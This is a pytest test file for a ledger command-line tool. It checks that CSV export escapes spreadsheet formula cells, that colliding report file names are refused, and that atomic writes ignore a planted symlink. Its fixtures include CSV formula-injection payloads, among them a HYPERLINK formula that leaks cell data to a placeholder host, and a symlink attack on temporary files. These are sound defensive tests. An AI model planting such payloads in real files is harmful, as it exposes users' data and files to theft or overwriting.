"""Safety of what the commands write (issue 15): CSV cells a spreadsheet would run as formulas, report
files of two persons under one name, report temporary files behind a planted symlink."""

from __future__ import annotations

import csv
import io
import os
from collections.abc import Callable
from pathlib import Path

import pytest

from mbr_ledger.commands.report import packet_paths, write_atomic

from conftest import run

ROWS = """date,person,account,kind,source,amount,memo
2026-01-02,alex,acme,contribution,after_tax,100.00,=HYPERLINK("http://x.example/?"&A1)
2026-01-03,alex,acme,contribution,after_tax,200.00,+1+2
2026-01-04,alex,acme,fee,after_tax,-5.00,-2+3
2026-01-05,alex,acme,contribution,after_tax,50.00,@SUM(A1)
2026-01-06,alex,acme,contribution,after_tax,60.00,"\tcmd"
2026-01-07,alex,acme,contribution,after_tax,70.00,"\rcmd"
2026-01-08,alex,acme,contribution,after_tax,80.00,plain memo
"""


def test_ledger_csv_neutralises_formula_cells(book: Path, tmp_path: Path) -> None:
    f = tmp_path / "rows.csv"
    f.write_text(ROWS, encoding="utf-8")
    assert run(book, "import", str(f)).exit_code == 0
    res = run(book, "ledger", "--format", "csv")
    assert res.exit_code == 0
    rows = list(csv.DictReader(io.StringIO(res.stdout)))
    memos = [r["memo"] for r in rows]
    assert memos[:4] == ["'=HYPERLINK(\"http://x.example/?\"&A1)", "'+1+2", "'-2+3", "'@SUM(A1)"]
    assert memos[4:6] == ["cmd", "cmd"]  # the import trims the memos' blanks (tab, CR) already
    assert memos[6] == "plain memo"
    amounts = [r["amount"] for r in rows]
    assert "-5.00" in amounts  # numbers stay numbers
    assert all(not r["source_line"].startswith("'") for r in rows)
    # the JSON and the table are for programs and eyes: unchanged
    res = run(book, "ledger", "--format", "json")
    assert '"memo": "=HYPERLINK' in res.stdout


def test_csv_text_cells() -> None:
    from mbr_ledger.render.terminal import csv_text, to_csv

    assert [csv_text(v) for v in ("=1", "+1", "-1", "@a", "\tx", "\rx", "a=b", "", 5)] == \
        ["'=1", "'+1", "'-1", "'@a", "'\tx", "'\rx", "a=b", "", 5]
    assert to_csv(["memo", "amount"], [["-x", "-5.00"]], text=["memo"]) == "memo,amount\n'-x,-5.00\n"


def test_two_persons_one_file_name_are_refused(make_book: Callable[..., Path], tmp_path: Path) -> None:
    book = make_book('[[person]]\nid = "a b"\nborn = "1980-01-01"\n\n[[person]]\nid = "a_b"\nborn = "1980-01-01"\n')
    out = tmp_path / "out"
    res = run(book, "report", "--year", "2026", "--out", str(out))
    assert res.exit_code == 2
    assert "a b" in res.stderr and "a_b" in res.stderr and "mbr-2026-a_b" in res.stderr
    assert not out.exists() or not list(out.iterdir())  # nothing written
    assert run(book, "report", "--year", "2026", "--out", str(out), "--person", "a b").exit_code == 0


def test_file_names_differing_only_in_case_are_refused(make_book: Callable[..., Path], tmp_path: Path) -> None:
    book = make_book('[[person]]\nid = "Alex"\nborn = "1980-01-01"\n\n[[person]]\nid = "alex"\nborn = "1980-01-01"\n')
    res = run(book, "report", "--year", "2026", "--out", str(tmp_path / "out"))
    assert res.exit_code == 2 and "same file" in res.stderr


def test_packet_paths_unchanged_for_plain_ids(tmp_path: Path) -> None:
    assert packet_paths(tmp_path, 2026, "alex") == (tmp_path / "mbr-2026-alex.xlsx", tmp_path / "mbr-2026-alex.pdf")


@pytest.mark.skipif(not hasattr(os, "symlink"), reason="no symlinks")
def test_write_atomic_never_follows_a_planted_symlink(tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me", encoding="utf-8")
    target = tmp_path / "mbr-2026-alex.pdf"
    planted = tmp_path / f".{target.name}.{os.getpid()}.tmp"
    planted.symlink_to(victim)
    write_atomic(target, b"%PDF new")
    assert victim.read_text(encoding="utf-8") == "keep me"
    assert target.read_bytes() == b"%PDF new" and not target.is_symlink()
    assert [p for p in tmp_path.iterdir() if p.name.endswith(".tmp") and p != planted] == []


def test_write_atomic_leaves_no_temporary_file_on_error(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "x.pdf"

    def boom(*_: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", boom)
    with pytest.raises(OSError):
        write_atomic(target, b"data")
    assert list(tmp_path.iterdir()) == []
